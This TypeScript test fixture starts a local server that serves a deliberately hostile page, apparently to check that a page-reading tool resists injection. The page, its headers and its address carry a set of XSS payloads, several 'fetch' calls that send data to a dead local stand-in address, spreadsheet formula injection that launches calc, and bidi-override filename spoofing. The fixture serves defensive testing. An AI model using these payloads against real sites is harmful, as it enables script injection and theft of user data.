import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'

/** Where a successful attack would send requests. No server listens there. */
export const ELSEWHERE = 'http://127.0.0.1:9'

const RUN = `top.attacked=1;alert(document.domain);fetch('${ELSEWHERE}/stolen')`
const OVERRIDE = '\u202e\u2066gnp.exe\u2067'
const CONTROLS = '\u0007\u001b[31m\u0085\u200b\ufeff'
const LONG = 'x'.repeat(3000)

/** Out of every kind of place that a string may be put into. */
const STRINGS = [
  `<script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror="${RUN}">`,
  `" autofocus onfocus="${RUN}" x="`,
  `</title></textarea></style></noscript></template></code></bdi></svg><svg onload="${RUN}">`,
  `--><iframe srcdoc="<script>${RUN}</script>"></iframe><!--`,
  `]]><base href="${ELSEWHERE}/"><link rel=stylesheet href="${ELSEWHERE}/a.css"><meta http-equiv=refresh content="0;${ELSEWHERE}">`,
  `</style><style>*{display:none!important;background:url(${ELSEWHERE}/css)}</style>`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `\${${RUN}}{{${RUN}}}<%=${RUN}%>`,
  `=HYPERLINK("${ELSEWHERE}","x")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `${OVERRIDE} ${CONTROLS}`,
  LONG,
  '\u0301'.repeat(300),
]

const inAttribute = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;')
const inText = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')
const all = STRINGS.join(' ')

const PAGE = `<!doctype html><html lang="${inAttribute(STRINGS[1]!)}" dir="rtl"><head>
<title>${inText(`${OVERRIDE}${all.slice(0, 1500)}`)}</title>
<meta name="description" content="${inAttribute(all)}">
<meta name="viewport" content="${inAttribute(STRINGS[3]!)}, user-scalable=no">
<meta name="robots" content="${inAttribute(STRINGS[2]!)}">
${['title', 'description', 'site_name', 'image', 'url', 'type'].map((name, n) => `<meta property="og:${name}" content="${inAttribute(STRINGS[n]! + OVERRIDE)}">`).join('')}
<meta property="og:image" content="javascript:${RUN}"><meta name="twitter:card" content="${inAttribute(STRINGS[4]!)}">
<meta name="generator" content="${inAttribute(STRINGS[1]!)}"><meta http-equiv="content-security-policy" content="${inAttribute(`default-src ${STRINGS[2]}`)}">
${STRINGS.map((text) => `<link rel="canonical" href="${inAttribute(text)}"><link rel="alternate" hreflang="${inAttribute(text)}" href="${inAttribute(text)}">`).join('')}
<script type="application/ld+json">{"@type":"${STRINGS[5]!.replaceAll('"', "'")}",</script>
<script>console.error(${JSON.stringify(all).replaceAll('</', '<\\/')});document.body</script>
<style>@import url(${ELSEWHERE}/a.css);</style></head>
<body id="${inAttribute(STRINGS[1]!)}" onload="console.error(1)">
${STRINGS.map(
  (
    text,
    n,
  ) => `<h${(n % 6) + 1} id="${inAttribute(text)}" class="${inAttribute(text)}">${inText(text)}</h${(n % 6) + 1}>
<img src="${inAttribute(text)}"><img src="/${encodeURIComponent(text.slice(0, 200))}.png" alt="${inAttribute(text)}">
<a href="${inAttribute(text)}"></a><a href="javascript:${RUN}" target="_blank">${inText(text)}</a>
<iframe src="${inAttribute(text)}"></iframe><div role="${inAttribute(text)}" aria-label="${inAttribute(text)}" aria-x="1"></div>
<form action="${inAttribute(text)}"><input name="${inAttribute(text)}" id="${inAttribute(text)}"><button></button></form>`,
).join('\n')}
<svg><script>${inText(RUN)}</script><a xlink:href="javascript:${RUN}"><title>${inText(STRINGS[4]!)}</title></a></svg>
<script src="/${encodeURIComponent(`"><script>${RUN}`)}.js"></script>
<link rel="stylesheet" href="/=cmd|%20%2FC%20calc.css"><script src="/${'y'.repeat(1500)}.js"></script>
<${'z'.repeat(200)} ${'a'.repeat(200)}="${inAttribute(STRINGS[1]!)}"></body></html>`

/** Header values may hold no line breaks and no characters past Latin-1. */
const HEADERS = {
  server: STRINGS[1]!,
  'x-powered-by': STRINGS[2]!,
  'content-language': STRINGS[3]!,
  link: `<${STRINGS[8]}>; rel="${inAttribute(STRINGS[3]!)}"`,
  'content-security-policy': `script-src ${STRINGS[2]}; ${STRINGS[3]}; report-uri ${STRINGS[0]}`,
  'strict-transport-security': STRINGS[1]!,
  'referrer-policy': STRINGS[0]!,
  'permissions-policy': STRINGS[1]!,
  'x-frame-options': STRINGS[3]!,
  'x-robots-tag': STRINGS[6]!,
  'set-cookie': [`${STRINGS[0]}=1; Domain=${STRINGS[1]}`, `${'c'.repeat(900)}=1`],
  'cache-control': STRINGS[4]!,
}

/** The address of the page is an attack too. */
const PATH = `/%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E/%E2%80%AEgnp/${'p'.repeat(400)}?q="><img/src=x/onerror=alert(1)>&next=javascript:alert(1)`

export interface AttackSite {
  /** The page to be looked at. */
  page: string
  close(): Promise<void>
}

export async function openAttackSite(): Promise<AttackSite> {
  const server = createServer((request, response) => {
    const isPage = request.url!.startsWith('/%22')
    if (isPage) response.writeHead(200, { ...HEADERS, 'content-type': `text/html; charset=utf-8` }).end(PAGE)
    else if (request.url === '/robots.txt') response.end(`User-agent: *\nSitemap: ${STRINGS[8]}\n${STRINGS[0]}\n`)
    else response.writeHead(200, { 'content-type': STRINGS[0]! }).end(`/*# sourceMappingURL=${STRINGS[8]} */`)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  return {
    page: `http://127.0.0.1:${port}${PATH}`,
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections()
        server.close(() => resolve())
      }),
  }
}
